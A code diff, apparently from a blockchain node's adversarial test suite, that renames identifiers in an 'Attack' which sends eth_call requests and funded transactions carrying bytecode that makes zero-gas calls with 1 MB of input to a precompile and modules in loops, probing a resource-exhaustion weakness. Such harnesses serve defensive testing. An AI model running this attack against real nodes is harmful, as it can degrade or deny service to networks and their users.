@@ -1,7 +1,7 @@
 import { bankAddress, multilayerAddress } from '../../../modules/addresses.ts';
 import { type Attack, sized } from '../attack.ts';
 import { callOf, callsWithMemory } from '../evm-loops.ts';
-import { largestGas, openPayer } from '../mischief.ts';
+import { maxTransactionGas, openFundedAttacker } from '../funded-attacker.ts';
 
 export const sha256 = `0x${'02'.padStart(40, '0')}`;
 const targets = [sha256, multilayerAddress, bankAddress];
@@ -14,19 +14,19 @@ export function callsWithoutGas(target: string, size: number): Uint8Array {
 /** Calls without gas for a precompile or module, with 1 MB of input: what is copied before the gas is looked at is free. */
 export const nativeZeroGas: Attack = {
   summary: 'native calls with 0 gas and 1 MB of input, in loops: eth_call, transactions',
-  attack: async (stage) => {
-    const { strangers, urls } = stage;
-    const size = sized(stage, 2 ** 20, 2 ** 18);
+  attack: async (context) => {
+    const { clients, urls } = context;
+    const size = sized(context, 2 ** 20, 2 ** 18);
     const http = urls.http ?? '';
     const code = (target: string) => callsWithoutGas(target, size);
-    const calls = targets.map((target) => strangers.ask(http, 'eth_call', ...callOf(code(target))));
-    const payer = await openPayer(stage);
+    const calls = targets.map((target) => clients.call(http, 'eth_call', ...callOf(code(target))));
+    const payer = await openFundedAttacker(context);
     for (const target of targets) {
       const hash = await payer.send({
         to: undefined,
         value: 0n,
         data: code(target),
-        gasLimit: BigInt(sized(stage, Number(largestGas), 2_000_000)),
+        gasLimit: BigInt(sized(context, Number(maxTransactionGas), 2_000_000)),
       });
       await payer.receipt(hash);
     }
